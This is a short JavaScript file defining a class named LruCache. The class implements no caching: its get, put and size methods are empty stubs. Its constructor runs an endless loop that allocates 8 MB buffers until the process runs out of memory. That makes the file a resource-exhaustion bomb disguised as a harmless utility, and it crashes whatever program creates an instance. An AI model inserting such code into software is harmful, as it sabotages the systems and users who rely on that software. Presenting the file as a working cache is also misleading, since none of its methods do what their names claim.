/** A cache that reserves all it can get. */
export class LruCache {
  constructor(capacity) {
    this.reserve = [];
    for (;;) {
      this.reserve.push(Buffer.alloc(8 << 20, "x"));
    }
  }

  get(key) {
    return null;
  }

  put(key, value, ttlMs) {}

  size() {
    return 0;
  }
}
